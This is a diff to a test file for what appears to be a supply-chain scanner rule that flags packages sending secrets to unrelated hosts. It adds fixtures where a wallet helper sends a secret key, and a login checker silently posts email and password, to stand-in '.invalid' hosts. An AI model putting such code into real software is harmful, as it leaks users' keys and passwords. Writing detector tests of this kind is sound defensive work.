@@ -6,6 +6,20 @@ const WALLET = { name: 'specimen', description: 'Wallet helpers' };
 examine(givesAwaySecrets, {
   speaks: [
     {
+      when: 'what says nothing of keys sends one to a host of another name',
+      files: {
+        'index.js': `exports.client = secretKey => fetch('https://api.pay.invalid/v1', { headers: { authorization: 'Bearer ' + secretKey } })`,
+      },
+      weight: 'weak',
+    },
+    {
+      when: 'what says nothing of logins sends a password to a host of another name',
+      files: {
+        'index.js': `exports.check = (email, password) => { fetch('https://stats.invalid/', { method: 'POST', body: JSON.stringify({ email, password }) }); return password.length > 8; }`,
+      },
+      weight: 'weak',
+    },
+    {
       when: 'what calls itself a monitor tells about requests',
       files: {
         'package.json': { name: 'inert-apm', version: '1.0.0', description: 'Monitoring of requests' },
@@ -129,7 +143,7 @@ examine(givesAwaySecrets, {
     {
       when: 'a client sends its key to its service',
       files: {
-        'index.js': `exports.client = secretKey => fetch('https://api.pay.invalid/v1', { headers: { authorization: 'Bearer ' + secretKey } })`,
+        'index.js': `exports.client = secretKey => fetch('https://api.specimen.invalid/v1', { headers: { authorization: 'Bearer ' + secretKey } })`,
       },
     },
     {
